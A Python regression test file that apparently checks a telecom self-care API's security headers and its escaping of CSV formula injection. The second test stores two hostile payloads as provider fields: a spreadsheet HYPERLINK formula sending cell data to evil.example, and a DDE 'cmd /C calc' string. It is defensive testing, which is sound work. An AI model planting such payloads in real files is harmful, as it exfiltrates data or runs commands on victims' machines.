"""Holes found by the security probes of the API (docs/decisions.md, 2026-11-26), one regression test each.

The probes themselves (cross-customer ids on every route, forged and replayed tokens, each staff role on each
route, the provider API's credentials, enumeration on the public routes) found the rest closed; the tests that
already cover those are listed in the README's "Security probes" section.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from selfcare.api.headers import SECURITY_HEADERS
from selfcare.auth.policy import StaffRole

from infra.local.gateway import HttpResponse
from tests.factories import DemoWorld
from tests.integration.conftest import Api, body


def assert_security_headers(response: HttpResponse) -> None:
    lowered = {name.lower(): value for name, value in response.headers.items()}
    missing = {name: value for name, value in SECURITY_HEADERS.items() if lowered.get(name.lower()) != value}
    assert not missing, f"{response.status} answer lacks {missing}"


def test_every_kind_of_answer_carries_the_security_headers(api: Api, world: DemoWorld) -> None:
    # Given Jeanne's session
    jeanne = world.customers[0]
    token = api.login(jeanne.login_id, jeanne.password)["access_token"]
    lines = body(api.call("GET", "/mobile/lines", token=token))["lines"]
    answers = {
        # personal data (her account, her usage as CSV)
        "account": api.call("GET", "/account", token=token),
        "csv": api.gateway.handle(
            "GET", "/billing/usage/export", {"Authorization": f"Bearer {token}"}, None, {"line_id": lines[0]["line_id"]}
        ),
        # a function's refusals: another customer's line, a validation error, an oversized body
        "not found": api.call("GET", "/mobile/lines/M-377623456780", token=token),
        "invalid": api.call("PUT", "/account/contact/landline", {"landline": 42}, token=token),
        "too large": api.call("PUT", "/account/contact/landline", raw_body="x" * 20_000, token=token),
        # API Gateway's own answers: no credentials, no such route
        "unauthenticated": api.call("GET", "/account"),
        "no route": api.call("GET", "/nothing-here"),
        # a public route and a login
        "notice": api.call("GET", "/privacy/notice"),
        "login": api.call("POST", "/auth/login", {"identifier": jeanne.login_id, "password": jeanne.password}),
    }
    # Then each one carries every security header: not stored, not sniffed, not framed, HTTPS only
    assert answers["account"].status == 200 and answers["login"].status == 200 and answers["csv"].status == 200
    assert answers["not found"].status == 404 and answers["unauthenticated"].status == 401
    assert answers["too large"].status == 413 and answers["no route"].status == 404
    for response in answers.values():
        assert_security_headers(response)
    assert SECURITY_HEADERS["Cache-Control"] == "no-store"
    assert SECURITY_HEADERS["X-Content-Type-Options"] == "nosniff"
    assert SECURITY_HEADERS["Strict-Transport-Security"].startswith("max-age=")
    # and no CORS header: other origins stay out
    assert not [name for name in answers["account"].headers if name.lower().startswith("access-control-")]


def test_the_sms_report_csv_never_starts_a_formula(api: Api, world: DemoWorld) -> None:
    # Given a provider whose legal name and declaration number a spreadsheet would run as formulas
    member = world.staff[StaffRole.SALES]
    token = api.staff_login(member.email, member.password)["access_token"]
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Riviera")'
    created = api.call(
        "POST",
        "/sms/providers",
        {
            "legal_name": formula,
            "declaration_number": "+1+cmd|' /C calc'!A0",
            "contract_reference": "VAS-2026-007",
            "contract_start": "2026-01-01",
            "sender_ids": ["RIVIERA"],
            "opt_out_number": "36180",
            "throughput_per_second": 10,
        },
        token=token,
    )
    assert created.status == 201, created.body
    provider_id = body(created)["provider_id"]
    # When staff download its monthly report as CSV
    month = datetime.now(UTC).strftime("%Y-%m")
    answer = api.call("GET", f"/sms/providers/{provider_id}/reports/{month}/csv", token=token)
    # Then those cells are text (a leading apostrophe), the figures untouched
    assert answer.status == 200, answer.body
    rows = dict(csv.reader(io.StringIO(str(answer.body))))
    assert rows["legal_name"] == "'" + formula
    assert rows["declaration_number"] == "'+1+cmd|' /C calc'!A0"
    assert rows["submitted"] == "0"
    assert_security_headers(answer)
